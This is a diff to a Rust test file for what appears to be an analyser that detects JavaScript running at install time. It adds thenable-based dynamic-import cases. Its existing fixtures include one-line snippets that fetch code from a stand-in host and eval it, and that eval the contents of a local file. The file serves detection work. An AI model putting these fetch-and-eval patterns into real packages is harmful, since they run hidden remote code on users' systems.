@@ -42,6 +42,9 @@ fn callbacks_get_what_is_known_before_they_run() {
         "import('https').then(h => h.get('https://a.invalid/b', r => r.on('data', d => eval('' + d))))",
         "import('https').then(({ default: h }) => h.get('https://a.invalid/b', r => r.on('data', d => eval('' + d))))",
         "require('fs').readFile(__dirname + '/d.dat', 'utf8', (e, t) => eval(t))",
+        "(async () => { await { then() { import('./x.mjs').then(m => m.go()) } } })()",
+        "class C { then(r) { import('./x.mjs').then(m => m.go()); r() } } (async () => { await new C })()",
+        "const o = { then(r) { r(import('./x.mjs').then(m => m.go())) } }; (async () => await o)()",
         "require('fs').promises.readFile(__dirname + '/d.dat', 'utf8').then(t => eval(t))",
     ] {
         assert_eq!(runs(code), Some(Zone::Install), "{code}");
@@ -70,6 +73,7 @@ fn a_module_whose_name_is_not_known_is_none() {
         "module.exports = n => require('./lib/' + n)",
         "require('./lib/' + process.argv[2] + '.json')",
         "import('./x.mjs').then(m => m.other())",
+        "const o = { then(r) { import('./x.mjs').then(m => m.go()) } }; (async () => await 1)()",
         "import('./x.mjs').then(m => m)",
         "const o = { then(f) {} }; o.then(m => m.go())",
     ] {
